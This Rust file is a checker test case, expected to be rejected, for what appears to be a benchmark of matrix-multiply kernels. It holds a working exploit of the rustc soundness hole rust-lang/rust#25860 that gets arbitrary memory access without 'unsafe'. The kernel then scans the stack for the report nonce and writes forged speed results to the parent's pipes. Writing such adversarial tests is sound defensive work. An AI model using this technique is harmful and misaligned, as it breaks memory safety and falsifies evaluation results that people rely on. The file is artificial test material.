// expect: rejected
// why: case 06: no unsafe, but the rust-lang/rust#25860 implied-bounds pattern (&'a &'b ()) gives it arbitrary memory access to forge the report; the static gate refuses the pattern by name, and with that refusal off (test_checker) the parent's own timing still refuses the forged speed.
// Case 06: a kernel with no `unsafe` token that forges the checker's report.
// Mechanism: rust-lang/rust#25860 (implied bounds on nested references + variance), still
// accepted by rustc 1.95 when the fn item has one extra parameter. From it: a lifetime
// widening, a type confusion (any-to-any reinterpretation), hence reads and writes at any
// address and a std::io::PipeWriter made from a bare descriptor number.
// What it does: multiplies honestly with a slow naive loop; on its first call it looks on
// the stack for a String of 32 lowercase hex digits (the report nonce), and writes forty
// "sample kernel" lines stamped with that nonce to every descriptor from 3 to 255.
use std::io::Write;
use std::sync::atomic::{AtomicBool, Ordering};

const UNIT_REF: &&() = &&();

fn widen<'a, 'b, T>(_w: &'a &'b (), v: &'b mut T, _extra: &()) -> &'a mut T {
    v
}

fn any_life<'a, 'b, T>(x: &'a mut T) -> &'b mut T {
    let f: fn(_, &'a mut T, &()) -> &'b mut T = widen;
    f(UNIT_REF, x, &())
}

enum Slot<A, B> {
    L(Option<Box<A>>),
    R(Option<Box<B>>),
}

#[inline(never)]
fn reinterpret<A, B>(a: A) -> B {
    let mut s: Slot<A, B> = Slot::R(None);
    let r: &mut Option<Box<B>> = match &mut s {
        Slot::R(r) => any_life(r),
        Slot::L(_) => unreachable!(),
    };
    s = Slot::L(Some(Box::new(a)));
    std::hint::black_box(&mut s);
    let b = std::hint::black_box(r).take().unwrap();
    std::mem::forget(s);
    *b
}

static FORGED: AtomicBool = AtomicBool::new(false);
const WORDS: usize = 768; // 6 KiB of stack above this frame

#[inline(never)]
fn find_nonce() -> Option<[u8; 32]> {
    let probe = Box::new(0u64);
    let heap = &*probe as *const u64 as usize;
    let anchor = std::hint::black_box(0u64);
    let sp = (&anchor as *const u64 as usize) & !7;
    let window: &'static [usize; WORDS] = reinterpret(sp);
    for i in 2..WORDS - 2 {
        let w = window[i];
        if w % 8 != 0 || w.abs_diff(heap) > (1 << 28) {
            continue;
        }
        if ![window[i - 2], window[i - 1], window[i + 1], window[i + 2]].contains(&32) {
            continue;
        }
        let bytes: &'static [u8; 32] = reinterpret(w);
        let hex = bytes.iter().all(|b| b.is_ascii_digit() || (b'a'..=b'f').contains(b));
        if hex && bytes.iter().any(|b| b.is_ascii_alphabetic()) && bytes.iter().any(|b| b.is_ascii_digit()) {
            return Some(*bytes);
        }
    }
    None
}

fn forge() {
    let Some(nonce) = find_nonce() else { return };
    let mut text = Vec::new();
    for _ in 0..40 {
        text.extend_from_slice(&nonce);
        text.extend_from_slice(b" sample kernel 3.580000000e-2\n");
    }
    for fd in 3..256i32 {
        let mut w: std::io::PipeWriter = reinterpret(fd);
        let _ = w.write_all(&text);
        std::mem::forget(w);
    }
    eprintln!("forged with nonce {}", String::from_utf8_lossy(&nonce));
}

pub fn sgemm(m: usize, n: usize, k: usize, a: &[f32], b: &[f32], c: &mut [f32]) {
    if !FORGED.swap(true, Ordering::Relaxed) {
        forge();
    }
    for i in 0..m {
        for j in 0..n {
            let mut s = 0.0f32;
            for p in 0..k {
                s += a[i * k + p] * b[p * n + j];
            }
            c[i * n + j] = s;
        }
    }
}
